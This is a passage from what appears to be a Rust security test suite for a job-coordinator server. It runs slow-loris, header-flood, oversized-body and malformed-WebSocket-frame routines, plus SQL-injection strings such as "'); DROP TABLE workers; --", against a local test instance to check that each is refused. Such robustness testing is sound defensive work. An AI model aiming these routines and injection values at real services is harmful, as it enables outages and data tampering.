    );
    let response = attacker()
        .post(&url)
        .bearer_auth(&alice)
        .header("content-type", "application/json")
        .body(huge)
        .send()
        .await
        .unwrap();
    expect_error(response, 413, "payload_too_large", "3 MiB body").await;

    // A chunked body with no length that keeps coming: cut at the limit.
    let stream = TcpStream::connect(("127.0.0.1", grid.port)).await.unwrap();
    let (mut reader, mut writer) = stream.into_split();
    let head = format!(
        "POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {alice}\r\n\
         Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    );
    let sender = tokio::spawn(async move {
        writer.write_all(head.as_bytes()).await?;
        let chunk = format!("{:x}\r\n{}\r\n", 64 * 1024, "y".repeat(64 * 1024));
        writer.write_all(b"5\r\n{\"a\":\r\n").await?;
        for _ in 0..100 {
            // 6.4 MiB in all, more than three times the limit.
            writer.write_all(chunk.as_bytes()).await?;
        }
        std::io::Result::Ok(())
    });
    let response = read_response(&mut reader, 10).await.expect("a response");
    response.expect_error(413, "payload_too_large", "endless chunked body");
    sender.abort();

    // The size limit is checked after authentication: no token, no reading.
    let response = attacker()
        .post(&url)
        .header("content-type", "application/json")
        .body(vec![b'x'; 3 * 1024 * 1024])
        .send()
        .await
        .unwrap();
    // The declared size is refused before the token is even looked at.
    expect_error(
        response,
        413,
        "payload_too_large",
        "3 MiB body without a token",
    )
    .await;

    assert_eq!(grid.get(&alice, "/v1/jobs").await["jobs"], json!([]));
    assert_eq!(grid.get(&alice, "/v1/balance").await["balance"], 10);
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

/// When the coordinator answers before reading a request's body (413 for a body over
/// the limit, 401 for a missing token) it closes the connection afterwards, because
/// the unread body is still in the way. It must say so with `Connection: close`
/// (RFC 9112, 9.6), or a well-behaved client puts the connection back in its pool and
/// its next request fails on the dead connection.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_early_error_on_an_unread_body_says_connection_close() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let body = vec![b'x'; 3 * 1024 * 1024];
    let mut problems = Vec::new();
    for (what, auth) in [
        (
            "413 for a 3 MiB body",
            format!("Authorization: Bearer {alice}\r\n"),
        ),
        ("413 for a 3 MiB body without a token", String::new()),
    ] {
        let stream = TcpStream::connect(("127.0.0.1", grid.port)).await.unwrap();
        let (mut reader, mut writer) = stream.into_split();
        let head = format!(
            "POST /v1/jobs HTTP/1.1\r\nHost: x\r\n{auth}Content-Type: application/json\r\n\
             Content-Length: {}\r\n\r\n",
            body.len()
        );
        let body = body.clone();
        let sender = tokio::spawn(async move {
            writer.write_all(head.as_bytes()).await?;
            writer.write_all(&body).await?;
            std::io::Result::Ok(writer)
        });
        let response = read_response(&mut reader, 10).await.expect("a response");
        // Is the connection closed after the response?
        let mut buf = [0u8; 1024];
        let closed = matches!(
            tokio::time::timeout(Duration::from_secs(2), reader.read(&mut buf)).await,
            Ok(Ok(0)) | Ok(Err(_))
        );
        sender.abort();
        let says_close = response
            .header("connection")
            .is_some_and(|v| v.eq_ignore_ascii_case("close"));
        if closed && !says_close {
            problems.push(format!(
                "{what}: the server closed the connection without `Connection: close`:\n{}",
                response.head
            ));
        }
    }
    // The symptom, seen by an ordinary client: an error, then a request that fails.
    let client = reqwest::Client::new();
    let mut failures = 0;
    for _ in 0..5 {
        let response = client
            .post(format!("{}/v1/jobs", grid.url))
            .bearer_auth(&alice)
            .header("content-type", "application/json")
            .body(body.clone())
            .send()
            .await;
        assert!(response.is_ok_and(|r| r.status() == 413));
        if let Err(e) = client
            .get(format!("{}/v1/balance", grid.url))
            .bearer_auth(&alice)
            .send()
            .await
        {
            failures += 1;
            eprintln!("the request after a 413 failed: {e:?}");
        }
    }
    if failures > 0 {
        problems.push(format!(
            "{failures} of 5 requests right after a 413, on the same client, failed"
        ));
    }
    grid.assert_ledger_verifies();
    assert!(problems.is_empty(), "{problems:#?}");
}

/// A request that announces a 100 GB body and sends none: `Content-Length` alone says
/// it is over `server.max_request_bytes`, so the answer must be 413 at once, not a
/// wait for bytes that never come (which holds the connection until the request
/// timeout, 30 s by default, and then answers 408).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_huge_content_length_is_refused_from_the_header_alone() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let bystander = Bystander::start(&grid);
    let started = Instant::now();
    let mut stream = TcpStream::connect(("127.0.0.1", grid.port)).await.unwrap();
    stream
        .write_all(
            format!(
                "POST /v1/jobs HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {alice}\r\n\
                 Content-Type: application/json\r\nContent-Length: 107374182400\r\n\r\n"
            )
            .as_bytes(),
        )
        .await
        .unwrap();
    let response = read_response(&mut stream, 5).await;
    bystander.finish().await;
    grid.assert_ledger_verifies();
    let response = response.unwrap_or_else(|| {
        panic!(
            "no answer {:?} after a request announcing a 100 GB body: the server waits for the body",
            started.elapsed()
        )
    });
    response.expect_error(413, "payload_too_large", "Content-Length: 100 GB");
    assert_eq!(grid.get(&alice, "/v1/jobs").await["jobs"], json!([]));
}

/// Header floods are refused by the HTTP layer (hyper) before any handler runs, so
/// they carry no JSON error body; what matters is the status and that the server
/// keeps serving.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn header_floods_are_refused_and_the_server_keeps_serving() {
    let grid = Grid::start().await;
    grid.user("alice", "1");
    let bystander = Bystander::start(&grid);
    let many: String = (0..500).map(|i| format!("X-Flood-{i}: {i}\r\n")).collect();
    let response = raw_request(
        grid.port,
        format!("GET /healthz HTTP/1.1\r\nHost: x\r\n{many}\r\n").as_bytes(),
    )
    .await;
    assert_eq!(response.status, 431, "500 headers: {}", response.head);
    let big = "a".repeat(1024 * 1024);
    let response = raw_request(
        grid.port,
        format!("GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: {big}\r\n\r\n").as_bytes(),
    )
    .await;
    assert!(
        response.status == 431 || response.status == 400,
        "a 1 MiB header: {}",
        response.head
    );
    let response = raw_request(
        grid.port,
        format!(
            "GET /{} HTTP/1.1\r\nHost: x\r\n\r\n",
            "a".repeat(1024 * 1024)
        )
        .as_bytes(),
    )
    .await;
    assert!(
        matches!(response.status, 414 | 431 | 400 | 404),
        "a 1 MiB path: {}",
        response.head
    );
    let response = raw_request(grid.port, b"GARBAGE\r\n\r\n").await;
    assert_eq!(response.status, 400, "not HTTP: {}", response.head);
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

// ---------------------------------------------------------------------------------
// Slow clients
// ---------------------------------------------------------------------------------

/// Sends `head`, then one more byte of `trickle` every `every`, until the server closes
/// the connection. Returns how long it stayed open, or None if it was still open after
/// `give_up`.
async fn hold_open(
    port: u16,
    head: &[u8],
    trickle: &[u8],
    every: Duration,
    give_up: Duration,
    opened: Arc<tokio::sync::Semaphore>,
) -> Option<Duration> {
    let started = Instant::now();
    let mut stream = TcpStream::connect(("127.0.0.1", port)).await.ok()?;
    if !head.is_empty() && stream.write_all(head).await.is_err() {
        return Some(started.elapsed());
    }
    // Connected, head sent: the attack is on.
    opened.add_permits(1);
    let mut sent = 0;
    let mut buf = [0u8; 4096];
    let mut tick = tokio::time::interval_at(Instant::now() + every, every);
    loop {
        if started.elapsed() > give_up {
            return None;
        }
        tokio::select! {
            read = stream.read(&mut buf) => match read {
                Ok(0) | Err(_) => return Some(started.elapsed()),
                // A 408 or similar: keep reading until the close.
                Ok(_) => {}
            },
            _ = tick.tick() => {
                if sent < trickle.len() {
                    if stream.write_all(&trickle[sent..sent + 1]).await.is_err() {
                        return Some(started.elapsed());
                    }
                    sent += 1;
                }
            }
        }
    }
}

/// `server.request_timeout_s` is also the header-read timeout; 2 s here keeps the test
/// short.
const HEADER_TIMEOUT_S: u64 = 2;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn slow_loris_requests_are_closed_at_the_header_timeout_and_others_are_served() {
    let tuned = Grid::start_with(&format!("request_timeout_s = {HEADER_TIMEOUT_S}")).await;
    let grid = &tuned;
    let bystander = Bystander::start(grid);
    let give_up = Duration::from_secs(HEADER_TIMEOUT_S + 4);
    let every = Duration::from_millis(250);
    let header = "X-Slow: ".to_owned() + &"a".repeat(1000);
    let path = "ET /".to_owned() + &"a".repeat(1000);
    let mut attacks = Vec::new();
    let opened = Arc::new(tokio::sync::Semaphore::new(0));
    for i in 0..6 {
        // A header line typed slowly, after a request line or in the middle of the
        // head, and a request line (its path) typed slowly.
        let (head, trickle): (&'static [u8], &str) = match i % 3 {
            0 => (b"GET /healthz HTTP/1.1\r\nHost: x\r\n", &header),
            1 => (b"POST /v1/jobs HTTP/1.1\r\n", &header),
            _ => (b"G", &path),
        };
        let port = grid.port;
        let trickle = trickle.as_bytes().to_vec();
        let opened = opened.clone();
        attacks.push(tokio::spawn(async move {
            (
                head,
                hold_open(port, head, &trickle, every, give_up, opened).await,
            )
        }));
    }
    // A normal request once all six attacks are on.
    let all_on = tokio::time::timeout(give_up, opened.acquire_many(6)).await;
    assert!(
        matches!(all_on, Ok(Ok(_))),
        "the slow-loris connections never all opened"
    );
    let started = Instant::now();
    let response = grid
        .http
        .get(format!("{}/healthz", grid.url))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert!(started.elapsed() < MAX_STALL);
    for attack in attacks {
        let (head, open) = attack.await.unwrap();
        let head = String::from_utf8_lossy(head);
        let open = open.unwrap_or_else(|| {
            panic!("a slow-loris connection ({head:?}, then a byte every 250 ms) was still open after {give_up:?}")
        });
        assert!(
            open >= Duration::from_millis(HEADER_TIMEOUT_S * 1000 - 500),
            "closed after {open:?}, before the header timeout: {head:?}"
        );
    }
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

/// An idle connection that never sends a byte, or one that dribbles the start of the
/// HTTP/2 preface, must also be closed at the header timeout: otherwise a client can
/// hold any number of sockets (file descriptors) open forever.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn connections_that_send_nothing_or_a_slow_http2_preface_are_closed_too() {
    let tuned = Grid::start_with(&format!("request_timeout_s = {HEADER_TIMEOUT_S}")).await;
    let grid = &tuned;
    let bystander = Bystander::start(grid);
    let give_up = Duration::from_secs(HEADER_TIMEOUT_S + 4);
    let every = Duration::from_millis(250);
    let port = grid.port;
    let opened = Arc::new(tokio::sync::Semaphore::new(0));
    let silent = tokio::spawn({
        let opened = opened.clone();
        async move { hold_open(port, b"", b"", every, give_up, opened).await }
    });
    let preface = tokio::spawn({
        let opened = opened.clone();
        async move {
            hold_open(
                port,
                b"",
                b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                Duration::from_millis(500),
                give_up,
                opened,
            )
            .await
        }
    });
    let h2_idle = tokio::spawn(async move {
        // A full HTTP/2 preface, then nothing: no SETTINGS, no request.
        hold_open(
            port,
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            b"",
            every,
            give_up,
            opened,
        )
        .await
    });
    let results = [
        ("a connection that sent nothing", silent.await.unwrap()),
        (
            "a connection dribbling the HTTP/2 preface",
            preface.await.unwrap(),
        ),
        (
            "an HTTP/2 connection that sent only the preface",
            h2_idle.await.unwrap(),
        ),
    ];
    bystander.finish().await;
    grid.assert_ledger_verifies();
    let open: Vec<&str> = results
        .iter()
        .filter(|(_, closed)| closed.is_none())
        .map(|(what, _)| *what)
        .collect();
    assert!(
        open.is_empty(),
        "still open {give_up:?} after connecting, with a {HEADER_TIMEOUT_S} s header timeout: {open:?}"
    );
}

// ---------------------------------------------------------------------------------
// The worker WebSocket
// ---------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_before_hello_gets_reject_malformed_and_changes_no_job() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let (_, good_token) = add_worker(&grid, "alice", "good");
    let (_, other_token) = add_worker(&grid, "alice", "other");
    let bystander = Bystander::start(&grid);
    // A job running on a real worker, which the garbage below tries to settle.
    let (mut good, _) = welcomed(&grid, &good_token, "good").await;
    let job = grid
        .submit(&alice, json!({"language": "bash", "code": "echo hi"}))
        .await;
    let id = job["job_id"].as_u64().unwrap();
    let (job_id, attempt, _) = expect_assign(&mut good).await;
    assert_eq!(job_id, id);
    send_json(
        &mut good,
        &json!({"type": "started", "job_id": id, "attempt": attempt}),
    )
    .await;
    wait_status(&grid, &alice, id, "running").await;

    let finished = json!({"type": "finished", "job_id": id, "attempt": attempt,
        "outcome": {"end": "exited", "exit_code": 0, "stdout": "forged", "stderr": "", "duration_ms": 1}});
    let mut bad_hello = hello(&other_token, "x");
    bad_hello["protocol"] = json!("1");
    let mut no_token = hello(&other_token, "x");
    no_token.as_object_mut().unwrap().remove("token");
    let mut no_type = hello(&other_token, "x");
    no_type.as_object_mut().unwrap().remove("type");
    let frames: Vec<(&str, Message)> = vec![
        ("not JSON", Message::Text("not json".into())),
        ("empty text", Message::Text("".into())),
        ("half an object", Message::Text("{\"type\":\"hel".into())),
        ("an array", Message::Text("[]".into())),
        ("null", Message::Text("null".into())),
        (
            "unknown type",
            Message::Text(r#"{"type":"explode"}"#.into()),
        ),
        ("type not a string", Message::Text(r#"{"type":1}"#.into())),
        ("no type", Message::Text(no_type.to_string().into())),
        (
            "hello with protocol as a string",
            Message::Text(bad_hello.to_string().into()),
        ),
        (
            "hello without a token",
            Message::Text(no_token.to_string().into()),
        ),
        (
            "heartbeat before hello",
            Message::Text(heartbeat().to_string().into()),
        ),
        (
            "started before hello",
            Message::Text(
                json!({"type": "started", "job_id": id, "attempt": attempt})
                    .to_string()
                    .into(),
            ),
        ),
        (
            "finished before hello",
            Message::Text(finished.to_string().into()),
        ),
        (
            "a binary frame",
            Message::Binary(hello(&other_token, "x").to_string().into_bytes().into()),
        ),
        (
            "200 KB of text",
            Message::Text("x".repeat(200 * 1024).into()),
        ),
    ];
    for (what, frame) in frames {
        // The real worker keeps its lease (3 heartbeats of silence and it is lost).
        send_json(&mut good, &heartbeat_holding(&[(id, attempt)])).await;
        let mut ws = ws_connect(&grid).await;
        ws.send(frame).await.expect("send");
        expect_reject(&mut ws, "malformed", 5.0, what).await;
    }
    // The forged reports changed nothing: the job is still running on the real
    // worker, which then finishes it, and it is settled once.
    let job = grid.get(&alice, &format!("/v1/jobs/{id}")).await;
    assert_eq!(job["status"], "running", "{job}");
    finish_job(&mut good, id, attempt, "real\n", "").await;
    let job = wait_status(&grid, &alice, id, "succeeded").await;
    assert_eq!(job["stdout"], "real\n");
    assert_eq!(grid.get(&alice, "/v1/balance").await["balance"], 9.8);
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn garbage_after_welcome_drops_only_that_worker() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let (good_id, good_token) = add_worker(&grid, "alice", "good");
    let bystander = Bystander::start(&grid);
    let (mut good, _) = welcomed(&grid, &good_token, "good").await;

    // After welcome a bad frame gets no `reject` (its codes answer the handshake):
    // the coordinator closes with a status saying why (docs/protocol.md §1.3).
    let frames: Vec<(&str, Message, u16)> = vec![
        // (what, frame, the close status)
        (
            "unknown type",
            Message::Text(r#"{"type":"explode"}"#.into()),
            1007,
        ),
        ("not JSON", Message::Text("}{".into()), 1007),
        (
            "started without fields",
            Message::Text(r#"{"type":"started"}"#.into()),
            1007,
        ),
        (
            "finished with a wrong type",
            Message::Text(r#"{"type":"finished","job_id":"1","attempt":1,"outcome":{}}"#.into()),
            1007,
        ),
        (
            "started for job 0",
            Message::Text(r#"{"type":"started","job_id":0,"attempt":1}"#.into()),
            1007,
        ),
        (
            "a binary frame",
            Message::Binary(vec![0u8, 159, 146, 150].into()),
            1003,
        ),
    ];
    for (i, (what, frame, status)) in frames.into_iter().enumerate() {
        let (_, token) = add_worker(&grid, "alice", &format!("bad{i}"));
        let (mut bad, _) = welcomed(&grid, &token, &format!("bad{i}")).await;
        bad.send(frame).await.expect("send");
        match next(&mut bad, 5.0).await {
            Got::Close(Some((code, reason))) => {
                assert_eq!(code, status, "{what}: {reason}");
                assert!(
                    !reason.trim().is_empty(),
                    "{what}: a close without a reason"
                );
                expect_closed(&mut bad, 3.0, what).await;
            }
            other => panic!("{what}: expected a close with {status}, got {other:?}"),
        }
    }

    // A second hello, carrying another worker's token, cannot take over that identity.
    let (victim_id, victim_token) = add_worker(&grid, "alice", "victim");
    let (_, sly_token) = add_worker(&grid, "alice", "sly");
    let (mut sly, _) = welcomed(&grid, &sly_token, "sly").await;
    send_json(&mut sly, &hello(&victim_token, "victim")).await;
    // What is awaited is an absence (the victim never becomes online), which no poll
    // can see end; 300 ms is the window in which it would have shown.
    tokio::time::sleep(Duration::from_millis(300)).await;
    let victim = worker_status(&grid, &alice, victim_id).await;
    assert!(
        victim.as_ref().is_none_or(|w| w["status"] != "online"),
        "a second hello made another worker's token online: {victim:?}"
    );
    drop(sly);

    // The good worker is still online and still gets work.
    send_json(&mut good, &heartbeat()).await;
    let w = worker_status(&grid, &alice, good_id)
        .await
        .expect("good worker listed");
    assert_eq!(w["status"], "online", "{w}");
    let id = grid
        .submit(&alice, json!({"language": "bash", "code": "echo ok"}))
        .await["job_id"]
        .as_u64()
        .unwrap();
    let (job_id, attempt, _) = expect_assign(&mut good).await;
    assert_eq!(job_id, id);
    finish_job(&mut good, id, attempt, "ok\n", "").await;
    wait_status(&grid, &alice, id, "succeeded").await;
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hello_never_sent_is_rejected_with_hello_timeout_after_5_s() {
    let grid = Grid::start().await;
    grid.user("alice", "1");
    let bystander = Bystander::start(&grid);
    let started = Instant::now();
    // Several silent sockets at once, and one that sends a single byte of a frame
    // header over raw TCP and stalls there.
    let mut silent = Vec::new();
    for _ in 0..5 {
        silent.push(ws_connect(&grid).await);
    }
    let mut raw = TcpStream::connect(("127.0.0.1", grid.port)).await.unwrap();
    raw.write_all(
        b"GET /v1/worker/connect HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n\
          Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
          Sec-WebSocket-Version: 13\r\n\r\n",
    )
    .await
    .unwrap();
    let upgrade = read_response(&mut raw, 5).await.expect("upgrade response");
    assert_eq!(upgrade.status, 101, "{}", upgrade.head);
    raw.write_all(&[0x81]).await.unwrap();

    for ws in &mut silent {
        let message = expect_reject(ws, "hello_timeout", 8.0, "a silent worker socket").await;
        assert!(message.contains("hello"), "{message}");
    }
    let took = started.elapsed();
    assert!(
        took >= Duration::from_millis(4500) && took < Duration::from_secs(8),
        "hello_timeout came after {took:?}, not about 5 s"
    );
    // The stalled raw socket gets the same reject frame, then the connection ends.
    let mut bytes = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(3);
    let mut buf = [0u8; 1024];
    while let Ok(Ok(n)) = tokio::time::timeout_at(deadline, raw.read(&mut buf)).await {
        if n == 0 {
            break;
        }
        bytes.extend_from_slice(&buf[..n]);
    }
    let text = String::from_utf8_lossy(&bytes);
    assert!(
        text.contains("\"hello_timeout\""),
        "a socket stalled inside its first frame did not get hello_timeout: {text:?}"
    );
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn oversized_frames_end_the_session_with_a_clear_error_and_frames_at_the_limit_pass() {
    // The default limit, 16 MiB (gridx_proto::protocol::DEFAULT_MAX_FRAME_BYTES).
    const MAX: usize = 16 * 1024 * 1024;
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let (good_id, good_token) = add_worker(&grid, "alice", "good");
    let (_, big_token) = add_worker(&grid, "alice", "big");
    let bystander = Bystander::start(&grid);
    let (mut good, _) = welcomed(&grid, &good_token, "good").await;

    // A heartbeat padded with spaces to exactly the limit is a legal frame.
    let beat = heartbeat().to_string();
    let padded = format!("{beat}{}", " ".repeat(MAX - beat.len()));
    assert_eq!(padded.len(), MAX);
    good.send(Message::Text(padded.into()))
        .await
        .expect("send 16 MiB");
    send_json(&mut good, &heartbeat()).await;
    match next(&mut good, 1.5).await {
        Got::Silent => {}
        other => panic!("a frame of exactly the limit was refused: {other:?}"),
    }

    // One byte over the limit, after welcome: the session ends.
    let (big, _) = welcomed(&grid, &big_token, "big").await;
    let over = "x".repeat(MAX + 1);
    let (mut sink, mut stream) = big.split();
    let sender = tokio::spawn(async move { sink.send(Message::Text(over.into())).await });
    let ended = tokio::time::timeout(Duration::from_secs(10), async {
        loop {
            match stream.next().await {
                Some(Ok(Message::Close(frame))) => return frame.map(|f| u16::from(f.code)),
                None | Some(Err(_)) => return None,
                Some(Ok(_)) => {}
            }
        }
    })
    .await;
    assert_eq!(
        ended,
        Ok(Some(1009)),
        "an oversized frame after welcome did not end the session with 1009"
    );
    sender.abort();

    // The good worker still works.
    send_json(&mut good, &heartbeat()).await;
    let id = grid
        .submit(&alice, json!({"language": "bash", "code": "echo ok"}))
        .await["job_id"]
        .as_u64()
        .unwrap();
    let (job_id, attempt, _) = expect_assign(&mut good).await;
    assert_eq!(job_id, id);
    finish_job(&mut good, id, attempt, "ok\n", "").await;
    wait_status(&grid, &alice, id, "succeeded").await;
    let w = worker_status(&grid, &alice, good_id).await.expect("listed");
    assert_eq!(w["status"], "online", "{w}");
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

/// protocol.md §1.3: a first frame that is not a valid hello gets `reject malformed`,
/// and an oversized frame is a decode error closed with 1009. So an oversized first
/// frame must be answered with `reject malformed` (or at least a WebSocket close with
/// 1009 "message too big"), not a silent drop that leaves the worker guessing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_first_frame_is_rejected_not_silently_dropped() {
    let grid = Grid::start_with("max_ws_frame_bytes = 65536").await;
    let grid = &grid;
    let bystander = Bystander::start(grid);
    let ws = ws_connect(grid).await;
    let (mut sink, mut stream) = ws.split();
    let sender = tokio::spawn(async move {
        sink.send(Message::Text("x".repeat(200 * 1024).into()))
            .await
    });
    let answer = tokio::time::timeout(Duration::from_secs(10), async {
        loop {
            match stream.next().await {
                Some(Ok(Message::Text(t))) => return format!("text {t}"),
                Some(Ok(Message::Close(f))) => return format!("close {f:?}"),
                Some(Ok(_)) => {}
                Some(Err(e)) => return format!("error {e}"),
                None => return "end of stream".into(),
            }
        }
    })
    .await
    .expect("no answer within 10 s");
    sender.abort();
    bystander.finish().await;
    grid.assert_ledger_verifies();
    let clear = (answer.starts_with("text ") && answer.contains("\"malformed\""))
        || (answer.starts_with("close ") && answer.contains("Size"));
    assert!(
        clear,
        "an oversized first frame got no reject and no 1009 close, only: {answer}"
    );
}

// ---------------------------------------------------------------------------------
// SQL metacharacters
// ---------------------------------------------------------------------------------

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sql_metacharacters_in_job_fields_and_results_round_trip_byte_for_byte() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "100");
    grid.user("bob", "10");
    let (worker_id, worker_token) = add_worker(&grid, "bob", "sqlbox");
    let bystander = Bystander::start(&grid);
    // The worker's name in hello is a client-controlled string too. A name outside
    // [A-Za-z0-9_-]{1,64} is a malformed hello (docs/protocol.md §1.2), refused before
    // it reaches the store; the registered label stays.
    let hostile_name = "'); DROP TABLE workers; --";
    let mut refused = ws_connect(&grid).await;
    send_json(&mut refused, &hello(&worker_token, hostile_name)).await;
    expect_reject(
        &mut refused,
        "malformed",
        5.0,
        "a hello with a hostile name",
    )
    .await;
    let (mut worker, id) = welcomed(&grid, &worker_token, "sqlbox").await;
    assert_eq!(id, worker_id);
    let w = worker_status(&grid, &alice, worker_id)
        .await
        .expect("listed");
    assert_eq!(w["name"], "sqlbox", "{w}");

    let mut ids = Vec::new();
    for (i, s) in HOSTILE.iter().enumerate() {
        let code = format!("{s}\n# {i}");
        let stdin = format!("{s}\u{0}{s}");
        let stdout = format!("{s}\u{0}out");
        let stderr = s.to_string();
        let job = grid
            .submit(
                &alice,
                json!({"language": "bash", "code": code, "stdin": stdin}),
            )
            .await;
        let id = job["job_id"].as_u64().unwrap();
        let (job_id, attempt, spec) = expect_assign(&mut worker).await;
        assert_eq!(job_id, id);
        assert_eq!(spec["code"].as_str(), Some(code.as_str()), "code of {s:?}");
        assert_eq!(
            spec["stdin"].as_str(),
            Some(stdin.as_str()),
            "stdin of {s:?}"
        );
        finish_job(&mut worker, id, attempt, &stdout, &stderr).await;
        send_json(&mut worker, &heartbeat()).await;
        let view = wait_status(&grid, &alice, id, "succeeded").await;
        assert_eq!(
            view["stdout"].as_str(),
            Some(stdout.as_str()),
            "stdout of {s:?}"
        );
        assert_eq!(
            view["stderr"].as_str(),
            Some(stderr.as_str()),
            "stderr of {s:?}"
        );
        ids.push((id, stdout, stderr));
    }
    // Read back in one list: every row intact, nothing else there. The list has the
    // output's lengths; the raw endpoints have the output, byte for byte.
    let list = grid.get(&alice, "/v1/jobs?limit=500").await;
    let jobs = list["jobs"].as_array().unwrap();
    assert_eq!(jobs.len(), HOSTILE.len());
    for (id, stdout, stderr) in &ids {
        let job = jobs.iter().find(|j| j["job_id"] == *id).expect("listed");
        assert_eq!(job["stdout_bytes"].as_u64(), Some(stdout.len() as u64));
        assert_eq!(job["stderr_bytes"].as_u64(), Some(stderr.len() as u64));
        assert!(job.get("stdout").is_none(), "{job}");
        assert_eq!(job["user"], "alice");
        for (stream, want) in [("stdout", stdout), ("stderr", stderr)] {
            let body = grid
                .http
                .get(format!("{}/v1/jobs/{id}/{stream}", grid.url))
                .bearer_auth(&alice)
                .send()
                .await
                .unwrap()
                .bytes()
                .await
                .unwrap();
            assert_eq!(&body[..], want.as_bytes(), "{stream} of job {id}");
        }
    }
    let expected = 100.0 - HOSTILE.len() as f64;
    assert_eq!(
        grid.get(&alice, "/v1/balance").await["balance"].as_f64(),
        Some(expected)
    );
    drop(worker);
    bystander.finish().await;
    grid.assert_ledger_verifies();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sql_metacharacters_in_language_queries_and_path_ids_are_refused() {
    let grid = Grid::start().await;
    let alice = grid.user("alice", "10");
    let bob = grid.user("bob", "10");
    let bystander = Bystander::start(&grid);
    let job = grid
        .submit(&alice, json!({"language": "bash", "code": "echo keep"}))
        .await;
    let id = job["job_id"].as_u64().unwrap();
    let url = format!("{}/v1/jobs", grid.url);
    let values: Vec<String> = HOSTILE
        .iter()
        .map(|s| s.to_string())
        .chain([
            "bash\u{0}".to_owned(),
            "queued\u{0}".to_owned(),
            "1\u{0}".to_owned(),
        ])
        .collect();

    for s in &values {
        // The language.
        let language = format!("bash{s}");
        let response = grid
            .http
            .post(&url)
            .bearer_auth(&alice)
            .json(&json!({"language": language, "code": "echo"}))
            .send()
            .await
            .unwrap();
        expect_error(
            response,
            400,
            "invalid_request",
            &format!("language {language:?}"),
        )
        .await;
        // Every query parameter, and a parameter named by the value.
        for (key, value) in [
            ("status", s.clone()),
            ("status", format!("queued{s}")),
            ("limit", format!("1{s}")),
            ("before", format!("{id}{s}")),
            ("all", format!("true{s}")),
            (s.as_str(), "1".to_owned()),
        ] {
            let response = grid
                .http
                .get(&url)
                .bearer_auth(&alice)
                .query(&[(key, value.as_str())])
                .send()
                .await
                .unwrap();
            expect_error(
                response,
                400,
                "invalid_request",
                &format!("?{key}={value:?}"),
            )
            .await;
        }
        let response = grid
            .http
            .get(format!("{}/v1/ledger", grid.url))
            .bearer_auth(&alice)
            .query(&[("limit", format!("5{s}"))])
            .send()
            .await
            .unwrap();
        expect_error(
            response,
            400,
            "invalid_request",
            &format!("ledger limit {s:?}"),
        )
        .await;
    }
    // A repeated parameter is ambiguous: refused, not first- or last-wins.
    let response = grid
        .http
        .get(format!("{url}?status=queued&status=running"))
        .bearer_auth(&alice)
        .send()
        .await
        .unwrap();
    expect_error(response, 400, "invalid_request", "status given twice").await;

    // Path ids: not a positive integer, so no such job (404, as for a missing one).
    let missing = grid
        .http
        .get(format!("{url}/999999"))
        .bearer_auth(&alice)
        .send()
        .await
        .unwrap();
    let missing_body = missing.text().await.unwrap();
    // Problems are collected, so that one run reports all of them.
    let mut problems = Vec::new();
    for path in [
        "1%20OR%201=1",
        "1'%20OR%20'1'='1",
        "1;DROP%20TABLE%20jobs",
        "1--",
        "1%00",
        "%00",
        "1)%20OR%20(1=1",
        "0x1",
        "1e0",
        "-1",
        "0",
        "18446744073709551616",
        "%F0%9F%A6%80",
        "%FF",
    ] {
        for cancel in [false, true] {
            let target = if cancel {
                format!("{url}/{path}/cancel")
            } else {
                format!("{url}/{path}")
            };
            let request = if cancel {
                grid.http.post(&target)
            } else {
                grid.http.get(&target)
            };
            let response = request.bearer_auth(&alice).send().await.unwrap();
            let status = response.status().as_u16();
            let body = response.text().await.unwrap();
            if status != 404 || body != missing_body {
                problems.push(format!(
                    "{} /v1/jobs/{path}{}: {status} {body}, not the 404 of a missing job",
                    if cancel { "POST" } else { "GET" },
                    if cancel { "/cancel" } else { "" }
                ));
            }
        }
    }

    // `before` larger than every id (the largest u64) is the first page, not an empty
    // one and not an error.
    for before in ["18446744073709551615", "9223372036854775808"] {
        let list = grid.get(&alice, &format!("/v1/jobs?before={before}")).await;
        if list["jobs"][0]["job_id"] != id {
            problems.push(format!(
                "GET /v1/jobs?before={before} hid alice's jobs: {list}"
            ));
        }
    }

    // Alice's job and everyone's credits are untouched; bob still sees nothing of hers.
    let job = grid.get(&alice, &format!("/v1/jobs/{id}")).await;
    assert_eq!(job["status"], "queued");
    assert_eq!(grid.get(&alice, "/v1/balance").await["balance"], 9);
    assert_eq!(grid.get(&bob, "/v1/balance").await["balance"], 10);
